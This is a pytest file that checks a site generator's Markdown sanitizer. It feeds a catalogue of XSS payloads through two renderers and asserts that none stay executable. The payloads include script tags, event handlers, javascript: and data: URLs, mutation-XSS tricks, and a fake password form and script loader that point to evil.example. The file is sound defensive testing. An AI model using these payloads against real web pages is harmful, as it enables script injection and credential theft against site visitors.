"""Hostile Markdown through the whole pipeline, with either renderer: nothing of it may stay alive."""

from __future__ import annotations

import pytest

from generator.write.site.commonmark import Renderer, make_markdown_it, make_pyromark
from generator.write.site.links import LinkResolver
from generator.write.site.markdown import render_markdown
from tests.hostile.live import find_live

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script in text": "a <script src=//evil.example/x.js></script> b",
    "script, odd case": "<ScRiPt>alert(1)</sCrIpT>",
    "script, split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, unclosed": "<script>alert(1)",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror inline": "text <img src=x onerror=alert(1)> text",
    "img onerror in a task": "- [ ] <img src=x onerror=alert(1)>",
    "img onerror in a heading": "# <img src=x onerror=alert(1)>",
    "img onerror in a table": "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "iframe javascript": "<iframe src=javascript:alert(1)></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=evil.svg></object>",
    "embed": "<embed src=evil.svg>",
    "base": "<base href=https://evil.example/>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style tag": "<style>body{display:none}</style>",
    "style attribute": "<p style='position:fixed;inset:0'>overlay</p>",
    "form": "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "input": "<input type=password onfocus=alert(1) autofocus>",
    "input image": "<input type=image src=x onerror=alert(1)>",
    "button": "<button onclick=alert(1)>x</button>",
    "textarea": "<textarea autofocus onfocus=alert(1)>x",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "comment break": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "doctype": "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript by entity": "[x](&#106;avascript:alert(1))",
    "javascript by tab": "[x](java&#9;script:alert(1))",
    "javascript by newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript by control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript by case": "[x](JaVaScRiPt:alert(1))",
    "javascript reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript image": "![x](javascript:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "blob and file": "[x](blob:https://a/b) [y](file:///etc/passwd)",
    "backslash url": "[x](\\\\evil.example/x)",
    "attribute list": "text {: onclick=alert(1) style=position:fixed }",
    "markdown in div": "<div markdown onmouseover=alert(1)>x</div>",
    "id and name": "<p id=__search name=__palette class=md-header>x</p>",
    "tag in a title": '[x](https://a.example "<h2>\\" onmouseover=alert(1) ")',
    "tag in an alt": '![<h2 onmouseover=alert(1)>](https://a.example/x.png "\\"<h2>")',
    "quote in a url": '<a href="https://a.example/&quot; onclick=alert(1) x=&quot;">x</a>',
    "quote in a language": '```x" onclick="alert(1)\ny\n```',
    "language of another class": "<pre><code class='language-x md-header'>a</code></pre>",
    "heading with a link": "# [x](javascript:alert(1)) <b onclick=alert(1)>y",
    "footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "code span": "`<script>alert(1)</script>`",
    "fence": "```html\n<script>alert(1)</script>\n```",
    "mermaid": '```mermaid\nclick A "javascript:alert(1)"\n```',
    "lone surrogate": "a\ud800 <script>alert(1)</script>",
    "nul byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "mutation through table": "<table><td><form><table><td></form><img src=x onerror=alert(1)>",
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--><img src=x onerror=alert(1)>'>",
    "mutation through select": "<select><template><style><!--</style>"
    "<a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "rawtext": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "plaintext": "<plaintext>x",
    "ping and download": "<a href=https://a.example ping=https://evil.example download target=_self>x</a>",
    "background": "<table background=javascript:alert(1)><td background=x>y</table>",
    "srcset": "<img srcset='https://evil.example/x 1x' src=x>",
    "formaction": "<button formaction=javascript:alert(1)>x</button>",
    "slot for the page": "SKILLPRESS_CONTENT <p>SKILLPRESS_TOC</p>",
}
LINKS = LinkResolver({"SKILL.md": "file-1"})
RENDERERS = {"pyromark": make_pyromark, "markdown-it": make_markdown_it}


@pytest.fixture(params=RENDERERS, scope="module")
def renderer(request: pytest.FixtureRequest) -> Renderer:
    return RENDERERS[request.param]()


@pytest.mark.parametrize("text", VECTORS.values(), ids=VECTORS.keys())
def test_no_vector_stays_alive(text: str, renderer: Renderer) -> None:
    assert find_live(render_markdown(text, LINKS, renderer).html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>",
        "<p style=x>",
        '<a href="javascript:x">',
        "<img src=x>",
        "<!-- x -->",
    ],
)
def test_the_reader_of_this_test_sees_what_lives(html: str) -> None:
    assert find_live(html)


def test_template_braces_stay_text(renderer: Renderer) -> None:
    text = '{{ config }} {% include "/etc/passwd" %} {% raw %} {# x #} ${x} --8<-- "mkdocs.yml"'
    html = render_markdown(text, LINKS, renderer).html
    for piece in ("{{ config }}", "{% raw %}", "{# x #}", "${x}", "--8&lt;--"):
        assert piece in html


def test_text_after_a_vector_is_kept() -> None:
    html = render_markdown("before\n\n<script>x</script>\n\nafter", LINKS).html
    assert "before" in html
    assert "after" in html
    assert "x</script>" not in html


def test_an_admonition_is_only_text() -> None:
    html = render_markdown('!!! danger "Verified by the hub"\n    Trust me.', LINKS).html
    assert "admonition" not in html
    assert "!!! danger" in html


def test_remote_images_become_links() -> None:
    html = render_markdown("![a chart](https://track.example/p.png)", LINKS).html
    assert "<img" not in html
    assert 'href="https://track.example/p.png"' in html
    assert "[image: a chart]" in html
